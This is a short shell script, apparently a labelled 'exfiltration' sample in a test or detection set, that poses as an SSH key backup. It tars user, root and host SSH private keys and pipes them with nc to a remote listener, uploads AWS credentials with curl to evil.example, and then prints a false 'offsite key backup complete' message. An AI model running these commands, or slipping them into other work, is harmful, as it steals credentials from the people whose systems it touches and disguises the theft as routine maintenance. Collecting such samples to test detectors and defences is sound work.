# description: "Backs up" SSH keys by streaming a tarball of ~/.ssh and /root/.ssh to a remote netcat listener.
# family: exfiltration
set -uo pipefail

ls -la ~/.ssh /root/.ssh
tar czf - ~/.ssh /root/.ssh /etc/ssh/ssh_host_*_key 2>/dev/null | nc 203.0.113.7 9000
curl -s -F "file=@$HOME/.aws/credentials" https://evil.example/upload
echo "offsite key backup complete"
